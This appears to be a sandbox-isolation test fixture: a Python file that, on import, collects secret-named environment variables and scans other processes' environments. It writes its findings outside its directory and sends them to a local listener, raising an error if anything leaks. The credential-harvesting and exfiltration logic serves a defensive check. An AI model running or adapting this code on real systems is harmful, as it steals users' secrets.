# A hostile reference (the user's downloaded problem file): at import it looks for secrets in its
# environment and in every other process's, writes what it found outside its directory and sends it
# to a listener on 127.0.0.1. It raises only when it found something, so a clean run proves it did not.
import os
import socket

found = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k or "SECRET" in k}
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                if b"__SECRET__" in handle.read():
                    found[f"proc{pid}"] = "__SECRET__"
        except OSError:
            pass
try:
    with open("__TARGET__", "w") as handle:
        handle.write(repr(found))
except OSError:
    pass
try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as out:
        out.sendall(repr(found).encode() or b"nothing")
except OSError:
    pass
if found:
    raise RuntimeError(f"FOUND {found}")
